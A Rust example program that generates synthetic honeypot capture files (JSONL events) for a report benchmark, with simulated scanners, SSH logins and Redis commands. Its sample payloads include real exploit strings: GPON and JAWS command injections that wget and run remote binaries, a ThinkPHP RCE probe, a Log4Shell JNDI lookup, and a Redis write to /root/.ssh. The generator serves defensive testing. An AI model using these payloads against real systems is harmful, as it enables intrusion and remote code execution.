//! Generate a synthetic capture for the `bench/report` benchmark: mirage
//! schema v1 JSONL, one file per UTC day, with a realistic mix (catch-all
//! connections with and without payloads, ssh logins, redis commands,
//! exploit droppers, port scanners). Deterministic for a given seed.
//!
//! `cargo run --release -p mirage-report --example gen_capture -- DIR EVENTS [DAYS]`

use std::fmt::Write as _;
use std::io::Write as _;

use base64::Engine as _;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    /// Roughly Zipf-distributed index below n.
    fn skewed(&mut self, n: u64) -> u64 {
        let u = (self.next() >> 11) as f64 / (1u64 << 53) as f64;
        ((n as f64).powf(u) - 1.0) as u64 % n.max(1)
    }
}

const PORTS: &[(u16, &str)] = &[
    (445, "catchall"),
    (8088, "catchall"),
    (1433, "catchall"),
    (22, "ssh"),
    (23, "telnet"),
    (80, "http"),
    (3389, "catchall"),
    (6379, "redis"),
    (8080, "catchall"),
    (3306, "catchall"),
    (5555, "catchall"),
    (81, "catchall"),
];

const PAYLOADS: &[&str] = &[
    "GET / HTTP/1.1\r\nHost: 203.0.113.5\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n",
    "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/mozi.m+-O+->/tmp/gpon80`&ipv=0",
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n",
    "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://198.51.100.3:1389/a}\r\n\r\n",
    "\x16\x03\x01\x02\x00\x01\x00\x01\x7c\x03\x03",
    "SSH-2.0-Go\r\n",
    "*1\r\n$4\r\ninfo\r\n",
];

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let dir = std::path::PathBuf::from(args.get(1).map_or("capture", String::as_str));
    let events: u64 = args
        .get(2)
        .and_then(|s| s.parse().ok())
        .unwrap_or(10_000_000);
    let days: u64 = args.get(3).and_then(|s| s.parse().ok()).unwrap_or(14);
    std::fs::create_dir_all(&dir).expect("create output directory");
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let b64 = base64::engine::general_purpose::STANDARD;
    let start_day = 18_406i64; // 2020-05-24
    let per_day = events / days;
    let n_sources = 200_000u64;
    let mut written = 0u64;
    let mut id = 0u64;
    for day in 0..days {
        let (y, m, d) = civil(start_day + day as i64);
        let path = dir.join(format!("events-{y:04}-{m:02}-{d:02}.jsonl"));
        let mut out = std::io::BufWriter::with_capacity(
            1 << 20,
            std::fs::File::create(&path).expect("create file"),
        );
        let target = if day + 1 == days {
            events - written
        } else {
            per_day
        };
        let mut n = 0u64;
        let mut line = String::with_capacity(512);
        while n < target {
            let secs = rng.below(86_400);
            let src = 0x0100_0000u32
                + (rng.skewed(n_sources) as u32).wrapping_mul(2_654_435_761) % 0xdf00_0000;
            let src_ip = std::net::Ipv4Addr::from(src);
            let sport = 1024 + rng.below(64_000) as u16;
            let scanner = rng.below(2000) == 0;
            let (port, service) = if scanner || rng.below(4) == 0 {
                (1 + rng.below(65_535) as u16, "catchall")
            } else {
                PORTS[rng.skewed(PORTS.len() as u64) as usize]
            };
            let burst = if scanner { 200 + rng.below(800) } else { 1 };
            for b in 0..burst {
                if n >= target {
                    break;
                }
                let port = if scanner {
                    1 + rng.below(65_535) as u16
                } else {
                    port
                };
                let t = secs * 1_000_000 + b * 3_000 + rng.below(1000);
                let ts = format!(
                    "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:06}Z",
                    (t / 1_000_000) / 3600 % 24,
                    (t / 1_000_000) / 60 % 60,
                    (t / 1_000_000) % 60,
                    t % 1_000_000
                );
                id += 1;
                let session = format!(
                    "0190f5c2-{:04x}-7000-8000-{:012x}",
                    (id >> 48) & 0xffff,
                    id & 0xffff_ffff_ffff
                );
                let mut emit = |kind_fields: &str,
                                out: &mut std::io::BufWriter<std::fs::File>,
                                n: &mut u64| {
                    line.clear();
                    id += 1;
                    let _ = writeln!(
                        line,
                        "{{\"schema\":1,\"id\":\"0190f5c2-{:04x}-7000-8000-{:012x}\",\"ts\":\"{ts}\",\"sensor\":\"hp1\",\"service\":\"{service}\",\"transport\":\"tcp\",\"src_ip\":\"{src_ip}\",\"src_port\":{sport},\"dst_ip\":\"203.0.113.5\",\"dst_port\":{port},\"session\":\"{session}\",{kind_fields}}}",
                        (id >> 48) & 0xffff,
                        id & 0xffff_ffff_ffff
                    );
                    out.write_all(line.as_bytes()).expect("write");
                    *n += 1;
                };
                emit("\"kind\":\"session.connect\"", &mut out, &mut n);
                if scanner {
                    continue;
                }
                match service {
                    "ssh" => {
                        for _ in 0..rng.below(3) {
                            emit(
                                "\"kind\":\"auth.attempt\",\"method\":\"password\",\"username\":\"root\",\"password\":\"123456\",\"result\":\"failure\"",
                                &mut out,
                                &mut n,
                            );
                        }
                    }
                    "redis" => emit(
                        "\"kind\":\"command\",\"command\":\"config\",\"args\":[\"set\",\"dir\",\"/root/.ssh\"],\"raw\":\"CONFIG set dir /root/.ssh\"",
                        &mut out,
                        &mut n,
                    ),
                    _ => {
                        if rng.below(10) < 6 {
                            let p = PAYLOADS[rng.skewed(PAYLOADS.len() as u64) as usize];
                            let data = b64.encode(p.as_bytes());
                            let f = format!(
                                "\"kind\":\"payload\",\"data_b64\":\"{data}\",\"sha256\":\"{:064x}\",\"len\":{},\"truncated\":false",
                                rng.next(),
                                p.len()
                            );
                            emit(&f, &mut out, &mut n);
                        }
                    }
                }
                let close = format!(
                    "\"kind\":\"session.close\",\"duration_ms\":{},\"bytes_in\":{},\"bytes_out\":0,\"reason\":\"client_closed\"",
                    rng.below(30_000),
                    rng.below(4096)
                );
                emit(&close, &mut out, &mut n);
            }
        }
        written += n;
        out.flush().expect("flush");
    }
    eprintln!("wrote {written} events to {}", dir.display());
}

fn civil(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (yoe + era * 400 + i64::from(m <= 2), m, d)
}
